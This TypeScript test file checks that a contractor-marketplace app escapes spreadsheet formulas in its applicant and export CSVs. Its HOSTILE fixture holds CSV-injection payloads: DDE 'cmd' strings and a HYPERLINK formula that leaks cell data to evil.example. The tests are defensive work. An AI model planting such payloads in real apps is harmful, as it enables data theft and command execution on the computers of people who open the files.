import { parse } from "csv-parse/sync";

import { applyToProject } from "~/domain/applications.server";
import { createProject } from "~/domain/projects.server";
import { loader as applicantsCsv } from "~/routes/applications/projects_.$projectId.applications[.csv]";
import { loader as exportDownload } from "~/routes/account/resources.export.$kind";
import { args, getRequest } from "../helpers/requests";
import { cookieFor, makeUser } from "../helpers/world";

/** What a spreadsheet would run as a formula, and what the app must write instead (OWASP: a leading '). */
const HOSTILE = {
  bid: "@SUM(1+1)*cmd|' /C calc'!A0",
  letter: '=HYPERLINK("http://evil.example/?leak="&A1, "Click for references") — we do warehouse work.',
  title: "+Warehouse lighting =1+1",
  location: "-2+3, AZ",
  requirements: "\t=cmd|' /C calc'!A0",
  description: "\r=1+1 and more words for the description",
};

const projectInput = {
  trade_type: "Electrical" as const,
  title: HOSTILE.title,
  description: HOSTILE.description,
  location: HOSTILE.location,
  zip_code: "85201",
  budget_range: "$25,000 - $50,000" as const,
  timeline: "2-4 weeks" as const,
  requirements: HOSTILE.requirements,
};

async function download(response: Response | Promise<Response>) {
  const answer = await response;
  expect(answer.status).toBe(200);
  expect(answer.headers.get("Content-Type")).toContain("text/csv");
  return parse(await answer.text(), { columns: true }) as Record<string, string>[];
}

/** No cell of a CSV begins with a character a spreadsheet reads as the start of a formula. */
function expectNoFormulaCells(rows: Record<string, string>[]) {
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
}

describe("CSV files the app writes", () => {
  it("the applicants CSV shows a formula bid and cover letter as text, prefixed with a single quote", async () => {
    const [gc, sub] = [await makeUser("general_contractor"), await makeUser()];
    const project = await createProject(gc, projectInput);
    await applyToProject(sub, { project_id: project.id, cover_letter: HOSTILE.letter, bid_amount: HOSTILE.bid });
    const request = getRequest(`/projects/${project.id}/applications.csv`, { cookie: await cookieFor(gc) });
    const rows = await download(applicantsCsv(args(request, { projectId: String(project.id) })));
    expect(rows).toHaveLength(1);
    expect(rows[0].bid).toBe(`'${HOSTILE.bid}`);
    expect(rows[0].cover_letter).toBe(`'${HOSTILE.letter}`);
    expectNoFormulaCells(rows);
  });

  it("the data export's projects and applications CSVs escape every formula cell", async () => {
    const [gc, sub] = [await makeUser("general_contractor"), await makeUser()];
    const project = await createProject(gc, projectInput);
    await applyToProject(sub, { project_id: project.id, cover_letter: HOSTILE.letter, bid_amount: HOSTILE.bid });

    const exportOf = async (who: { id: number }, kind: string) =>
      download(
        exportDownload(args(getRequest(`/resources/export/${kind}`, { cookie: await cookieFor(who) }), { kind })),
      );

    const [projectRow] = await exportOf(gc, "projects");
    expect(projectRow).toMatchObject({
      title: `'${HOSTILE.title}`,
      location: `'${HOSTILE.location}`,
      requirements: `'${HOSTILE.requirements}`,
      description: `'${HOSTILE.description}`,
    });
    expectNoFormulaCells([projectRow]);

    const [applicationRow] = await exportOf(sub, "applications");
    expect(applicationRow).toMatchObject({
      project: `'${HOSTILE.title}`,
      bid: `'${HOSTILE.bid}`,
      cover_letter: `'${HOSTILE.letter}`,
    });
    expectNoFormulaCells([applicationRow]);
  });

  it("leaves ordinary text as it is and writes the header even with no rows", async () => {
    const gc = await makeUser("general_contractor");
    const project = await createProject(gc, { ...projectInput, title: "Warehouse lighting retrofit" });
    const request = getRequest(`/projects/${project.id}/applications.csv`, { cookie: await cookieFor(gc) });
    const text = await (await applicantsCsv(args(request, { projectId: String(project.id) }))).text();
    expect(text.split("\n")[0]).toMatch(/^business,username,.*,bid,.*,cover_letter$/);
    const [row] = await download(
      exportDownload(
        args(getRequest("/resources/export/projects", { cookie: await cookieFor(gc) }), { kind: "projects" }),
      ),
    );
    expect(row.title).toBe("Warehouse lighting retrofit");
  });
});
